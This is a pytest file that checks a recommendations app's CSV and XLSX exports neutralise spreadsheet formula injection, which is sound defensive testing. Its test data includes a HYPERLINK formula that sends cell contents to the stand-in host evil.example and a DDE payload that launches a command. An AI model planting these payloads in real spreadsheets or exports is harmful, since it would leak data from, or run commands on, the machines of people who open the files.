"""CSV formula injection: text that a spreadsheet would run as a formula goes out as text.
CSV cells get OWASP's "'" in front (a program strips it back, see README); XLSX cells are
typed as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from recommendations.analytics.spreadsheets import FORMULA_PREFIXES

from ..factories import RecommendationFactory, ResponsibleBodyFactory

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Ətraflı")',
    "=1+1",
    "+994 12 000 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=",
    "'=already quoted",
    "''=twice",
    "'plain quote",
    "'",
    "Adi mətn = formula deyil",
]


def strip_guard(cell: str) -> str:
    """What the README tells a program reading the CSV to do."""
    if cell.startswith("'") and cell[1:].startswith((*FORMULA_PREFIXES, "'")):
        return cell[1:]
    return cell


@pytest.fixture
def hostile_rows(db):
    rows = {}
    for text in HOSTILE:
        recommendation = RecommendationFactory(action=text)
        recommendation.responsible_bodies.set([ResponsibleBodyFactory(name=f"{text} {recommendation.pk}")])
        rows[recommendation.pk] = text
    return rows


def export(api_client, extension: str) -> bytes:
    response = api_client.get(f"/api/v1/recommendations/export.{extension}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_no_csv_cell_starts_like_a_formula(hostile_rows, api_client):
    rows = list(csv.reader(io.StringIO(export(api_client, "csv").decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), row


def test_csv_text_round_trips_once_the_guard_is_stripped(hostile_rows, api_client):
    reader = csv.DictReader(io.StringIO(export(api_client, "csv").decode("utf-8-sig")))
    exported = {int(row["id"]): row for row in reader}
    for pk, text in hostile_rows.items():
        assert strip_guard(exported[pk]["action"]) == text
        assert strip_guard(exported[pk]["responsible_bodies"]) == f"{text} {pk}"
    plain = exported[next(pk for pk, text in hostile_rows.items() if text.startswith("Adi"))]
    assert plain["action"] == "Adi mətn = formula deyil"  # text that is no formula is untouched


def test_xlsx_cells_that_look_like_formulas_are_text(hostile_rows, api_client):
    sheet = load_workbook(io.BytesIO(export(api_client, "xlsx"))).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    action = header.index("action")
    seen = set()
    for row in sheet.iter_rows(min_row=2):
        cell = row[action]
        assert cell.data_type == "s", cell.value
        seen.add(cell.value)
    # Control characters other than tab, newline and CR are dropped from XLSX; the rest is as stored.
    assert {text for text in HOSTILE if text[0] not in "\r"} <= seen
